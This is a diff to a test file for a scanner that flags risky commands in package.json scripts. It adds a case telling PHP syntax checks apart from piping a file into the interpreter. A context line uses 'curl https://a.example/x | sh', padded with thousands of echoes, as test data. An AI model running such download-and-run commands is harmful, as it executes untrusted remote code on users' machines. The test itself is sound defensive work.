@@ -55,6 +55,12 @@ describe("SEC-5: what shells and package managers are told to run", () => {
     expect(await told("package.json", scripts({ build: command }))).toEqual(["warning download-run 4"]);
   });
 
+  it("does not take a check of syntax for running what is printed", async () => {
+    const check = "find src -name '*.php' -print0 | xargs -0 -n1 php -l -f";
+    expect(await told("package.json", scripts({ lint: check, pass: "cat a.php | php -l" }))).toEqual([]);
+    expect(await told("package.json", scripts({ run: "cat a.php | php" }))).toEqual(["warning piped-into-shell 4"]);
+  });
+
   it("reads a long script to its end, and finds the names that files keep from a server (SEC-8)", async () => {
     const before = "echo a; ".repeat(5_000);
     const command = `${before}curl https://a.example/x | sh`;
